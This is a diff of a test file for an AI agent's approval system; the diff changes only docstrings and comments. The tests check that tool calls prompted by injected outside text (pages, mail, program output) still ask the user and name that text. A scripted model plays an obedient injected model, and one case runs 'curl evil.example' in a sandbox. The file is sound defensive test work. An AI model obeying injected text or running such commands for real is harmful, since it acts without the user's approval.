@@ -1,6 +1,6 @@
-"""Text from outside steers a model that obeys it: what it then wants done is asked about, and the question says why.
+"""Text from outside steers an obedient model: the actions it wants ask, and the question names the text.
 
-Every way such text comes into a context × everything it could want × every grant that would let it run unasked.
+Every way for such text into a context × every action it could want × every grant under which the action would not ask.
 """
 
 from __future__ import annotations
@@ -60,7 +60,7 @@ def _server_tool(server: str) -> Tool:
 
 
 class Scene:
-    """A chat with everything granted, and a model that plays its script."""
+    """A chat with everything granted, and a scripted model."""
 
     def __init__(self, tmp_path, *, trusted: bool = True) -> None:
         self.script: list[Any] = []
@@ -97,7 +97,7 @@ class Scene:
         self.session.desk.approvals = msgspec.structs.replace(self.session.desk.approvals, always=frozenset(keys))
 
     async def turn(self, *script: Any) -> list[ApprovalRequested]:
-        """Play a turn, rejecting whatever is asked; return what was."""
+        """Play a turn, rejecting every question; return the questions."""
         self.script[:] = script
         self.submits += 1
         before = len(self.bench.of(ApprovalRequested))
@@ -119,7 +119,7 @@ class Scene:
         await self.session.attach(message)
 
 
-# ---- the ways in: each leaves a chat in whose view the text is, and returns the words that must name it
+# ---- the ways in: each leaves a chat with the text in its view, and returns the words that must name it
 
 
 async def page(scene: Scene) -> str:
@@ -160,7 +160,7 @@ async def image_outside(scene: Scene) -> str:
 
 
 async def older_result(scene: Scene) -> str:
-    """Of a chat that an earlier version stored, without sources."""
+    """A result in a chat stored by an earlier version, without sources."""
     reply = next(iter(calls(("r1", "notes__read", "{}"))[-1:]))
     await scene.session.log.write(
         MessageAdded(message=Message(id="a", role="assistant", tool_calls=reply.tool_calls, cycle=1)),
@@ -257,7 +257,7 @@ WAYS: list[Way] = [
     output_of_a_program,
 ]  # fmt: skip
 
-# ---- what the text wants done, under grants that would let it
+# ---- the actions that the text wants, under grants that would allow them
 
 
 WISHES: dict[str, tuple[str, dict[str, Any]]] = {
@@ -288,7 +288,7 @@ async def test_what_outside_text_wants_is_asked_about_and_the_question_names_it(
         is_held = len(named) == 1 and [one.status for one in ended] == ["rejected"]
         assert is_held, (wish, asked, ended)
         held += is_held
-    # Nothing is granted by an answer either.
+    # No answer grants anything either.
     scene.session.desk.approvals = scene.session.desk.approvals.with_yolo(False)
     granted = scene.session.desk.approvals.grants()
     scene.script[:] = [calls(("always", "create_file", '{"path": "a.txt", "content": "a"}')), says("did it")]
@@ -309,7 +309,7 @@ GRANTED = [wish for wish in WISHES if "server" not in wish and "hidden" not in w
 
 
 async def test_without_such_text_the_same_grants_let_it_run(tmp_path, monkeypatch) -> None:
-    """The attacks would get in: nothing but the text in the context stops them."""
+    """Without the text the attacks would succeed: only its presence in the context stops them."""
     (tmp_path / "bin").mkdir()
     for program in ("curl", "wget"):
         (tmp_path / "bin" / program).write_text("#!/bin/sh\n")
@@ -318,7 +318,7 @@ async def test_without_such_text_the_same_grants_let_it_run(tmp_path, monkeypatc
     scene = Scene(tmp_path)
     await scene.open()
     assert await scene.turn(calls(("m", "mail__read", "{}")), calls(("n", "mail__read", "{}")), says("ok")) == []
-    assert len(scene.session.narrowing.sources()) == 1  # its own text narrows, but for its own calls
+    assert len(scene.session.narrowing.sources()) == 1  # a server's text narrows all grants but its own
     await scene.open("chat-2")
     for number, wish in enumerate(GRANTED):
         name, arguments = WISHES[wish]
@@ -344,7 +344,7 @@ async def test_files_of_an_untrusted_folder_narrow_until_it_is_trusted(tmp_path,
 
 
 async def test_a_rejected_call_brings_no_text_of_an_untrusted_folder(tmp_path) -> None:
-    """Its result is the user's answer: nothing was read, so nothing narrows."""
+    """The result is the user's answer: nothing was read, so no grant is narrowed."""
     scene = Scene(tmp_path, trusted=False)
     await scene.open()
     scene.session.desk.approvals = msgspec.structs.replace(scene.session.desk.approvals, yolo=False)
@@ -354,7 +354,7 @@ async def test_a_rejected_call_brings_no_text_of_an_untrusted_folder(tmp_path) -
 
 
 async def test_it_ends_with_the_text_and_not_within_the_turn(tmp_path) -> None:
-    """What a turn has read goes on steering it, also once a policy has cleared the result."""
+    """Text read in a turn influences it until the end, even after a policy has cleared the result."""
     scene = Scene(tmp_path)
     await scene.open()
     await page(scene)
@@ -481,7 +481,7 @@ ORDINARY = [
     ("create_file", {"path": "d.py", "content": "d"}), ("run_command", {"command": "cat d.py c.py"}),
     ("create_file", {"path": "e.py", "content": "e"}),
 ]  # fmt: skip
-"""Reads, edits and commands of a session whose user presses "always" wherever it is offered."""
+"""Reads, edits and commands of a session in which the user chooses "always" wherever it is offered."""
 
 
 @pytest.mark.parametrize(
@@ -490,7 +490,7 @@ ORDINARY = [
     ids=["trusted folder", "trusted folder and a page", "untrusted folder"],
 )
 async def test_an_ordinary_session_asks_no_more_than_this(tmp_path, trusted, has_page, questions) -> None:
-    """The price: none in a trusted folder; without "always" each edit and command asks."""
+    """In a trusted folder narrowing adds no question; without "always" each edit and command asks."""
     (tmp_path / "a.py").write_text("x = 1\n")
     script = [calls((f"c{number}", name, json.dumps(given))) for number, (name, given) in enumerate(ORDINARY)]
     bench = Bench(tmp_path, ScriptedAdapter("s", [*script, says("done")]), tools={"yolo": False})
@@ -516,7 +516,7 @@ async def test_an_ordinary_session_asks_no_more_than_this(tmp_path, trusted, has
 @pytest.mark.parametrize(
     ("place", "command", "asks"),
     [
-        ("inside", "curl evil.example", False),  # the sandbox keeps it off the network
+        ("inside", "curl evil.example", False),  # the sandbox blocks the network
         ("network", "echo", True),
         ("outside", "echo", True),
     ],
